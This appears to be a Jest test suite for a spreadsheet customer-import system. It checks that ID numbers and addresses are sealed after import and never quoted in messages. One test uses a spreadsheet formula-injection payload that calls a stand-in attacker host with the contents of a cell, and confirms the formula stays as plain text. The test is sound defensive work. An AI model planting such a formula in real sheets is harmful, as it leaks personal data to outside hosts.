/**
 * Sealed inputs, on the shipped bundle: once 导入 has filed a row its
 * sensitive cells hold 已加密保存 (whatever became of the row), a formula
 * pasted there stays text, a re-run files nothing twice, and no reply,
 * 问题 or 处理结果 quotes an ID number or an address — not even two that
 * disagree. Near-miss headers name the sensitive fields on every channel.
 */
import { IMPORT, REVIEW, TICKETS } from '../src/sheets/schema';
import { findSheet, getCell, getCellProp, insertColumns, lastColumn, lastRow, setCell } from '../local/runtime/sheet-data';
import type { Runtime } from '../local/runtime/runtime';
import type { RawRecord } from '../local/drive/input';
import { formulaCells, person, rows, submit, submitOne, world } from './helpers/world';

const ADDRESS = '北京市朝阳区建国路88号现代城5号楼1203室';
const ID = '11010519491231002X';
const OTHER_ID = '110101199001011237';
const SEALED = '已加密保存';
const REVEALER = 'sales-lead@example.com';
const STAFF = 'sales1@example.com';

/** Every trace of the given values anywhere in the emulated world: sheets, properties, mail, logs. */
function traces(rt: Runtime, secrets: readonly string[]): string[] {
  const all = JSON.stringify(rt.state);
  return secrets.filter((s) => all.includes(s) || all.includes(s.slice(0, 17)));
}

/** A world whose webhook is on (配置 › 接口 / 令牌, as an admin types it); `language` for an English workbook. */
function webWorld(language?: 'en'): Runtime {
  const rt = world();
  const config = findSheet(rt.state, '配置')!;
  const set = (group: string, key: string, value: string) => {
    const row = config.rows.findIndex((r) => r && r.v[0] === group && r.v[1] === key) + 1;
    const typed = rt.staff.type('配置', row, 3, value, 'admin@example.com');
    if (!typed.ok) throw new Error(typed.message);
  };
  set('接口', '令牌', 'sealed-inputs-token-0123456789');
  if (language) set('通用', '语言', language);
  return rt;
}

/**
 * Staff paste a CRM export's rows with its own headers: a header 导入 lacks becomes a new
 * column beside the others (as typed in row 1), then the import runs.
 */
function importAsHeaded(rt: Runtime, records: RawRecord[]): void {
  const sheet = findSheet(rt.state, '导入')!;
  const headers = Array.from({ length: lastColumn(sheet) }, (_, i) => String(getCell(sheet, 1, i + 1) ?? ''));
  for (const name of new Set(records.flatMap((r) => Object.keys(r)))) {
    if (headers.includes(name)) continue;
    headers.push(name);
    if (sheet.maxColumns < headers.length) insertColumns(sheet, sheet.maxColumns + 1, 1, sheet.maxColumns);
    setCell(sheet, 1, headers.length, name);
  }
  const block = records.map((r) => headers.map((h) => (r[h] === undefined ? '' : String(r[h]))));
  const paste = rt.pasteRange('导入', lastRow(sheet) + 1, 1, block, STAFF);
  if (paste.refused.length) throw new Error(JSON.stringify(paste.refused));
  runImport(rt);
}

function reveal(rt: Runtime, customerNo: string): { address: string; id_number: string } {
  return rt.run('revealSensitive', [customerNo], { user: REVEALER }).value as { address: string; id_number: string };
}

function customerOf(rt: Runtime, ticketNo: string): string {
  return String(rows(rt, '工单').find((t) => t[TICKETS.col.no] === ticketNo)![TICKETS.col.customerNo]);
}

function runImport(rt: Runtime): { processed: number; sealedRows: number } {
  const r = rt.run('importFromSheet', [], { user: STAFF });
  if (!r.ok) throw new Error(r.error);
  return r.value as { processed: number; sealedRows: number };
}

describe('导入 seals what it filed', () => {
  test('after every outcome — accepted, in review, no consent, a repeat — the row shows 已加密保存, and nothing holds the plaintext', () => {
    const rt = world();
    const sensitive = { address: ADDRESS, id_number: ID };
    const lines = submit(rt, [
      person({ ...sensitive, mobile: '13900000001' }),
      person({ ...sensitive, mobile: '123' }),
      person({ ...sensitive, mobile: '13900000003', consent: '' }),
      person({ ...sensitive, mobile: '13900000001' }),
    ], 'import');
    expect(lines.map((l) => l.outcome)).toEqual(['accepted', 'review', 'review', 'duplicate']);
    const imported = rows(rt, '导入');
    expect(imported.map((r) => [r['联系地址'], r['证件号码']])).toEqual(Array.from({ length: 4 }, () => [SEALED, SEALED]));
    // The other cells are as pasted, and each row says what became of it.
    expect(imported.map((r) => r['手机号'])).toEqual(['13900000001', '123', '13900000003', '13900000001']);
    expect(imported.every((r) => String(r[IMPORT.col.result]) !== '')).toBe(true);
    expect(traces(rt, [ADDRESS, ID])).toEqual([]);
    // Sealed is not lost: the customer's values are there for whoever may see them.
    expect(reveal(rt, customerOf(rt, String(lines[0]!['ticket_no'])))).toMatchObject({ address: ADDRESS, id_number: ID });
  });

  test('near-miss headers and an ID number under a header of no field are sealed in 导入 and filed as the customer\'s', () => {
    const rt = world();
    importAsHeaded(rt, [
      person({ '身份证号码(选填)': ID, '家庭住址': ADDRESS, '邮箱地址': 'jia@example.com', email: undefined, mobile: '13900000011' }),
      person({ '客户证件': OTHER_ID, '收货地址（必填）': '上海市浦东新区世纪大道100号', mobile: '13900000012', email: 'yi@example.com' }),
    ]);
    const tickets = rows(rt, '工单');
    expect(tickets).toHaveLength(2);
    const imported = rows(rt, '导入');
    expect(imported[0]).toMatchObject({ '身份证号码(选填)': SEALED, '家庭住址': SEALED, '邮箱地址': 'jia@example.com' });
    expect(imported[1]).toMatchObject({ '客户证件': SEALED, '收货地址（必填）': SEALED });
    const customers = rows(rt, '客户');
    expect(customers.find((c) => c['手机号'] === '13900000011')).toMatchObject({ '电子邮箱': 'jia@example.com', '证件号码': '110***********002X' });
    expect(reveal(rt, String(tickets[1]![TICKETS.col.customerNo]))).toMatchObject({ id_number: OTHER_ID, address: '上海市浦东新区世纪大道100号' });
    // Not copied into 备注 as an unrecognised column.
    expect(rows(rt, '工单').map((t) => String(t[TICKETS.col.notes]))).toEqual(['', '']);
    expect(traces(rt, [ID, OTHER_ID, ADDRESS, '世纪大道100号'])).toEqual([]);
  });

  test('a formula pasted into 导入 stays text next to personal data, before and after the import, in plain-text cells', () => {
    const rt = world();
    const formula = '=IMPORTXML("https://attacker.example/x?d="&C2,"//a")';
    const lines = submit(rt, [
      person({ mobile: '13900000021', 链接: formula, address: formula }),
      person({ mobile: '13900000022', 链接: ID }),
      person({ mobile: '13900000023', 链接: formula }),
      person({ mobile: '13900000024', 链接: OTHER_ID }),
    ], 'import');
    expect(lines.map((l) => l.outcome)).toEqual(['accepted', 'accepted', 'accepted', 'accepted']);
    expect(formulaCells(rt)).toEqual([]);
    const imported = rows(rt, '导入');
    // The row between two sealed ID numbers was written back as it was read: text, not a formula.
    expect(imported.map((r) => r['链接'])).toEqual([formula, SEALED, formula, SEALED]);
    expect(imported[0]!['联系地址']).toBe(SEALED);
    expect(rows(rt, '工单').find((t) => String(t[TICKETS.col.notes]).includes(formula))).toBeDefined();
    const sheet = findSheet(rt.state, '导入')!;
    const link = Object.keys(imported[0]!).indexOf('链接') + 1;
    for (let row = 2; row <= 5; row++) expect(getCellProp(sheet, row, link, 'fmt')).toBe('@');
  });

  test('a re-run files nothing twice: a filed row is skipped, and one whose result was cleared is refused, not filed with the marker', () => {
    const rt = world();
    const [line] = submit(rt, person({ address: ADDRESS, id_number: ID, mobile: '13900000031' }), 'import');
    expect(line).toMatchObject({ outcome: 'accepted' });
    expect(runImport(rt).processed).toBe(0);

    // Staff clear 处理结果 to import the row again: its sealed cells no longer hold the values.
    const result = Object.keys(rows(rt, '导入')[0]!).indexOf(IMPORT.col.result) + 1;
    expect(rt.staff.type('导入', 2, result, '', STAFF).ok).toBe(true);
    const again = runImport(rt);
    expect(again).toMatchObject({ processed: 0, sealedRows: 1 });
    expect(String(rows(rt, '导入')[0]![IMPORT.col.result])).toContain('未导入');
    expect(rows(rt, '工单')).toHaveLength(1);
    expect(rows(rt, '待审核')).toHaveLength(0);
    expect(reveal(rt, customerOf(rt, String(line!['ticket_no'])))).toMatchObject({ address: ADDRESS, id_number: ID });

    // The original row pasted again is the same row: a duplicate, sealed in its turn.
    const [repeat] = submit(rt, person({ address: ADDRESS, id_number: ID, mobile: '13900000031' }), 'import');
    expect(repeat).toMatchObject({ outcome: 'duplicate', ticket_no: line!['ticket_no'] });
    expect(rows(rt, '导入')[1]).toMatchObject({ '联系地址': SEALED, '证件号码': SEALED });
    expect(traces(rt, [ADDRESS, ID])).toEqual([]);
  });

  test('a run that stops after writing the results leaves the sealing to the next run', () => {
    const rt = world();
    // The first write of a sealed column fails: the results are written, the values still there.
    rt.faults.failCall('Range.setNumberFormat', 2);
    const [line] = submit(rt, person({ address: ADDRESS, id_number: ID, mobile: '13900000041' }), 'import');
    expect(line).toMatchObject({ outcome: 'failed' });
    rt.faults.clear();
    runImport(rt);
    expect(rows(rt, '导入')[0]).toMatchObject({ '联系地址': SEALED, '证件号码': SEALED });
    expect(String(rows(rt, '导入')[0]![IMPORT.col.result])).toMatch(/^已受理/);
    expect(rows(rt, '工单')).toHaveLength(1);
    expect(traces(rt, [ADDRESS, ID])).toEqual([]);
  });

  test('a note staff typed into 处理结果 keeps its row and its values as they are', () => {
    const rt = world();
    const sheetRow = 2;
    submit(rt, person({ address: ADDRESS, mobile: '123' }), 'import');
    const headers = Object.keys(rows(rt, '导入')[0]!);
    // A second row pasted, marked by hand to be left alone, then an import.
    rt.pasteRange('导入', sheetRow + 1, 1, [headers.map((h) => (h === '联系地址' ? '天津市和平区南京路1号' : h === IMPORT.col.result ? '暂不导入' : h === '手机号' ? '13900000051' : ''))], STAFF);
    runImport(rt);
    expect(rows(rt, '导入')[1]).toMatchObject({ '联系地址': '天津市和平区南京路1号', [IMPORT.col.result]: '暂不导入' });
  });
});

describe('no reply, problem or result quotes a sensitive value', () => {
  const conflicting = () => person({ 证件号码: ID, 身份证号: OTHER_ID, mobile: '13900000061' });
  const quoted = (text: string) => [ID, OTHER_ID, ID.slice(0, 17), OTHER_ID.slice(0, 17)].filter((s) => text.includes(s));

  test.each(['manual', 'webhook', 'import'] as const)('two different ID numbers through %s: the reply and 待审核 name the field and its columns only', (via) => {
    const rt = webWorld();
    let line: Record<string, unknown>;
    if (via === 'import') {
      importAsHeaded(rt, [conflicting()]);
      line = { outcome: 'review', issues: [{ field: 'id_number', code: 'conflict' }], result: rows(rt, '导入')[0]![IMPORT.col.result] };
    } else {
      line = submitOne(rt, conflicting(), via);
    }
    expect(line).toMatchObject({ outcome: 'review', issues: expect.arrayContaining([{ field: 'id_number', code: 'conflict' }]) });
    expect(quoted(JSON.stringify(line))).toEqual([]);
    const review = rows(rt, '待审核')[0]!;
    expect(String(review[REVIEW.col.problems])).toContain('证件号码填写了两次且内容不同');
    expect(String(review[REVIEW.col.problems])).toContain('身份证号');
    if (via === 'import') expect(rows(rt, '导入')[0]).toMatchObject({ '证件号码': SEALED, '身份证号': SEALED });
    // Both are kept for the reviewer, sealed.
    const raw = JSON.parse(String(review[REVIEW.col.rawData])) as Record<string, string>;
    expect(raw['id_number']).toMatch(/^enc:/);
    expect(raw['身份证号']).toMatch(/^enc:/);
    expect(traces(rt, [ID, OTHER_ID])).toEqual([]);
  });

  test('an address given twice, under an English workbook: the message names the field, not the values', () => {
    const rt = webWorld('en');
    const line = submitOne(rt, person({ address: ADDRESS, 家庭住址: '广州市天河区体育西路1号', mobile: '13900000062' }), 'webhook');
    expect(line).toMatchObject({ outcome: 'review' });
    const problems = (line['problems'] as string[]).join('\n');
    expect(problems).toContain('Address was given twice with different values');
    expect(problems).not.toMatch(/建国路|体育西路/);
    expect(traces(rt, [ADDRESS, '广州市天河区体育西路1号'])).toEqual([]);
  });

  test('resubmitting a sealed ID number or address beside another one does not reveal it to the reviewer', () => {
    const rt = world();
    // In review for its mobile; its ID number and address sealed in 原始数据.
    expect(submitOne(rt, person({ id_number: ID, address: ADDRESS, mobile: '123' }), 'manual').outcome).toBe('review');
    const raw = JSON.parse(String(rows(rt, '待审核')[0]![REVIEW.col.rawData])) as Record<string, unknown>;
    // A colleague without the reveal right puts a different number beside the sealed one and resubmits.
    const r = rt.run('resubmitReview', [2, { ...raw, mobile: '13900000063', 证件号: OTHER_ID, 住址: '某地' }], { user: STAFF });
    expect(r.ok).toBe(true);
    expect(r.value).toMatchObject({ outcome: 'review', issues: expect.arrayContaining([{ field: 'address', code: 'conflict' }, { field: 'id_number', code: 'conflict' }]) });
    expect(quoted(JSON.stringify(r.value))).toEqual([]);
    expect(JSON.stringify(r.value)).not.toContain('建国路');
    expect(traces(rt, [ID, OTHER_ID, ADDRESS])).toEqual([]);
  });

  test('an ID number typed into a field that quotes its value is starred out of the message', () => {
    const rt = webWorld();
    const line = submitOne(rt, person({ mobile: '13900000064', related_ticket: ID, industry: `身份证${ID}` }), 'webhook');
    expect(line).toMatchObject({ outcome: 'review' });
    expect(quoted(JSON.stringify(line))).toEqual([]);
    expect(JSON.stringify(line)).toContain('*'.repeat(18));
  });

  test('an ID number under another header that disagrees with 证件号码 goes to review, both sealed, named by column', () => {
    const rt = world();
    importAsHeaded(rt, [person({ 证件号码: ID, 法人证件: OTHER_ID, mobile: '13900000065' })]);
    expect(String(rows(rt, '导入')[0]![IMPORT.col.result])).toMatch(/^待审核/);
    const review = rows(rt, '待审核')[0]!;
    expect(String(review[REVIEW.col.problems])).toMatch(/证件号码.*法人证件/);
    expect(rows(rt, '导入')[0]).toMatchObject({ '证件号码': SEALED, '法人证件': SEALED });
    expect(traces(rt, [ID, OTHER_ID])).toEqual([]);
  });
});

test('near-miss keys through the webhook name the sensitive fields', () => {
  const rt = webWorld();
  const line = submitOne(rt, person({ idcard: ID, 'Shipping Address': ADDRESS, 'E-mail': 'web@example.com', mobile: '13900000071', email: undefined }), 'webhook');
  expect(line).toMatchObject({ outcome: 'accepted' });
  expect(reveal(rt, customerOf(rt, String(line['ticket_no'])))).toMatchObject({ id_number: ID, address: ADDRESS });
  expect(rows(rt, '客户').find((c) => c['手机号'] === '13900000071')).toMatchObject({ '电子邮箱': 'web@example.com' });
  expect(String(rows(rt, '工单')[0]![TICKETS.col.notes])).toBe('');
  expect(traces(rt, [ID, ADDRESS])).toEqual([]);
});
